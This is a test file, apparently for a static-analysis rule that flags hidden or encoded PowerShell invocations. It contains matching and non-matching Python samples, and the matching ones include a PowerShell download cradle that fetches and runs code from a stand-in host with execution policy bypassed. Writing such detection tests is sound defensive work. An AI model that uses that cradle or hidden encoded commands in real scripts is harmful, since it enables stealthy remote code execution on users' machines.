# Test for powershell-hidden-command (defanged: the encoded text decodes to nothing useful).
import subprocess

# ruleid: powershell-hidden-command
subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand ZQBjAGgAbwAgAGgAaQAgAHQAaABlAHIAZQA=", shell=True)
# ruleid: powershell-hidden-command
cmd = "powershell -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')"
# ruleid: powershell-hidden-command
subprocess.run(["powershell.exe", "-NoProfile", "-EncodedCommand", "ZQBjAGgAbwA="])

# ok: powershell-hidden-command
subprocess.run(["powershell", "-Command", "Get-ChildItem"])
# ok: powershell-hidden-command
out = subprocess.check_output("powershell Get-ItemPropertyValue -Path HKCU:\\Software\\X -Name Y")
# ok: powershell-hidden-command
doc = "Use PowerShell or cmd to run the installer."
